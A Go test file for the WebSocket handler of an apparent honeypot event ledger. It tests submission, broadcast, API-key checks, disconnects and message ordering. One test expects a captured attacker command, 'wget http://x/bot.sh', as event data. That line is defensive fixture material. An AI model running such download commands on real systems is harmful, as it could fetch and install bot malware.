package handler

import (
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/gorilla/websocket"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/V4T54L/honeyledger/internal/adapter/broadcast"
	"github.com/V4T54L/honeyledger/internal/domain"
	"github.com/V4T54L/honeyledger/internal/domain/mocks"
)

type wsFixture struct {
	srv      *httptest.Server
	broker   *broadcast.Broker
	ingestor *fakeIngestor
}

func newWSFixture(t *testing.T) *wsFixture {
	t.Helper()
	return newKeyedWSFixture(t, nil)
}

// newKeyedWSFixture only admits submissions from connections presenting a key valid in keys.
func newKeyedWSFixture(t *testing.T, keys domain.APIKeyRepository) *wsFixture {
	t.Helper()
	broker := broadcast.NewBroker(16, testLogger(), testMetrics())
	ingestor := &fakeIngestor{broker: broker}
	h := NewWSHandler(ingestor, broker, keys, time.Second, 4096, testMetrics(), testLogger())
	srv := httptest.NewServer(h)
	t.Cleanup(srv.Close)
	return &wsFixture{srv: srv, broker: broker, ingestor: ingestor}
}

func (f *wsFixture) dial(t *testing.T) *websocket.Conn {
	t.Helper()
	return f.dialWithHeader(t, nil)
}

func (f *wsFixture) dialWithHeader(t *testing.T, header http.Header) *websocket.Conn {
	t.Helper()
	url := "ws" + strings.TrimPrefix(f.srv.URL, "http")
	conn, _, err := websocket.DefaultDialer.Dial(url, header)
	require.NoError(t, err)
	t.Cleanup(func() { conn.Close() })
	require.Eventually(t, func() bool { return f.broker.Count() > 0 }, time.Second, 5*time.Millisecond)
	return conn
}

// readKinds reads n messages and indexes them by kind.
func readKinds(t *testing.T, conn *websocket.Conn, n int) map[string]map[string]any {
	t.Helper()
	got := make(map[string]map[string]any)
	for i := 0; i < n; i++ {
		conn.SetReadDeadline(time.Now().Add(2 * time.Second))
		_, data, err := conn.ReadMessage()
		require.NoError(t, err)
		var msg map[string]any
		require.NoError(t, json.Unmarshal(data, &msg))
		got[msg["kind"].(string)] = msg
	}
	return got
}

func TestWSHandler_SubmitAcceptedAndBroadcast(t *testing.T) {
	f := newWSFixture(t)
	conn := f.dial(t)

	require.NoError(t, conn.WriteMessage(websocket.TextMessage, []byte(validEvent)))

	got := readKinds(t, conn, 2)
	require.Contains(t, got, domain.KindAccepted)
	require.Contains(t, got, domain.KindNewEvent)
	assert.EqualValues(t, 1, got[domain.KindAccepted]["sequenceId"])
	assert.Equal(t, "wget http://x/bot.sh", got[domain.KindNewEvent]["command"])
}

func TestWSHandler_RejectedReplyGoesOnlyToSubmitter(t *testing.T) {
	f := newWSFixture(t)
	submitter := f.dial(t)
	other := f.dial(t)
	require.Eventually(t, func() bool { return f.broker.Count() == 2 }, time.Second, 5*time.Millisecond)

	require.NoError(t, submitter.WriteMessage(websocket.TextMessage, []byte(`{"sourceIp":"203.0.113.7","threatLevel":"low"}`)))

	got := readKinds(t, submitter, 1)
	require.Contains(t, got, domain.KindRejected)
	assert.Equal(t, []any{"command"}, got[domain.KindRejected]["missingFields"])

	// The other observer sees the next broadcast, not the rejection.
	f.broker.Broadcast(domain.FailedNotice(5, domain.ErrShutdownAborted))
	other.SetReadDeadline(time.Now().Add(2 * time.Second))
	_, data, err := other.ReadMessage()
	require.NoError(t, err)
	assert.Contains(t, string(data), domain.KindFailed)
}

func TestWSHandler_MalformedFrameKeepsConnection(t *testing.T) {
	f := newWSFixture(t)
	conn := f.dial(t)

	require.NoError(t, conn.WriteMessage(websocket.TextMessage, []byte(`not json`)))
	got := readKinds(t, conn, 1)
	require.Contains(t, got, domain.KindRejected)

	require.NoError(t, conn.WriteMessage(websocket.TextMessage, []byte(validEvent)))
	got = readKinds(t, conn, 2)
	assert.Contains(t, got, domain.KindAccepted)
}

func TestWSHandler_DisconnectUnregisters(t *testing.T) {
	f := newWSFixture(t)
	conn := f.dial(t)
	require.Equal(t, 1, f.broker.Count())

	conn.WriteMessage(websocket.CloseMessage, websocket.FormatCloseMessage(websocket.CloseNormalClosure, ""))
	conn.Close()

	assert.Eventually(t, func() bool { return f.broker.Count() == 0 }, 2*time.Second, 10*time.Millisecond)
}

func TestWSHandler_BrokerCloseSendsCloseFrame(t *testing.T) {
	f := newWSFixture(t)
	conn := f.dial(t)

	f.broker.Close()

	conn.SetReadDeadline(time.Now().Add(2 * time.Second))
	_, _, err := conn.ReadMessage()
	require.Error(t, err)
	assert.True(t, websocket.IsCloseError(err, websocket.CloseGoingAway), "got %v", err)
	var closeErr *websocket.CloseError
	require.ErrorAs(t, err, &closeErr)
	assert.Equal(t, domain.ErrObserverDisconnected.Error(), closeErr.Text)
}

func TestWSHandler_SubmissionRequiresKey(t *testing.T) {
	keys := &mocks.MockAPIKeyRepository{Valid: map[string]bool{"sensor-key": true}}

	tests := []struct {
		name    string
		header  http.Header
		wantErr string
	}{
		{"no key", nil, "API key required"},
		{"unknown key", http.Header{"X-Api-Key": []string{"stolen-key"}}, "invalid API key"},
		{"bearer unknown key", http.Header{"Authorization": []string{"Bearer stolen-key"}}, "invalid API key"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			f := newKeyedWSFixture(t, keys)
			conn := f.dialWithHeader(t, tt.header)

			require.NoError(t, conn.WriteMessage(websocket.TextMessage, []byte(validEvent)))
			got := readKinds(t, conn, 1)
			require.Contains(t, got, domain.KindRejected)
			assert.Equal(t, tt.wantErr, got[domain.KindRejected]["error"])

			f.ingestor.mu.Lock()
			assert.Empty(t, f.ingestor.received)
			f.ingestor.mu.Unlock()

			// Observing still works.
			f.broker.Broadcast(domain.FailedNotice(5, domain.ErrShutdownAborted))
			got = readKinds(t, conn, 1)
			assert.Contains(t, got, domain.KindFailed)
		})
	}
}

func TestWSHandler_SubmissionWithKeyIsAccepted(t *testing.T) {
	f := newKeyedWSFixture(t, &mocks.MockAPIKeyRepository{Valid: map[string]bool{"sensor-key": true}})
	conn := f.dialWithHeader(t, http.Header{"X-Api-Key": []string{"sensor-key"}})

	require.NoError(t, conn.WriteMessage(websocket.TextMessage, []byte(validEvent)))

	got := readKinds(t, conn, 2)
	assert.Contains(t, got, domain.KindAccepted)
	assert.Contains(t, got, domain.KindNewEvent)
}

func TestWSHandler_QueuedRepliesPrecedeBroadcasts(t *testing.T) {
	h := NewWSHandler(&fakeIngestor{}, broadcast.NewBroker(1, testLogger(), testMetrics()), nil, time.Second, 4096, testMetrics(), testLogger())

	// Both are ready before the writer starts.
	events := make(chan []byte, 1)
	events <- []byte(`{"kind":"confirmed","sequenceId":1}`)
	replies := make(chan []byte, 1)
	replies <- []byte(`{"kind":"accepted","sequenceId":1}`)
	done := make(chan struct{})

	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		wc, err := h.upgrader.Upgrade(w, r, nil)
		if err != nil {
			return
		}
		h.write(wc, &broadcast.Observer{ID: "fixed", Kind: "websocket", C: events}, replies, done)
	}))
	t.Cleanup(srv.Close)
	t.Cleanup(func() { close(done) })

	conn, _, err := websocket.DefaultDialer.Dial("ws"+strings.TrimPrefix(srv.URL, "http"), nil)
	require.NoError(t, err)
	defer conn.Close()

	var kinds []string
	for i := 0; i < 2; i++ {
		conn.SetReadDeadline(time.Now().Add(2 * time.Second))
		_, data, err := conn.ReadMessage()
		require.NoError(t, err)
		var msg map[string]any
		require.NoError(t, json.Unmarshal(data, &msg))
		kinds = append(kinds, msg["kind"].(string))
	}
	assert.Equal(t, []string{domain.KindAccepted, domain.KindConfirmed}, kinds)
}
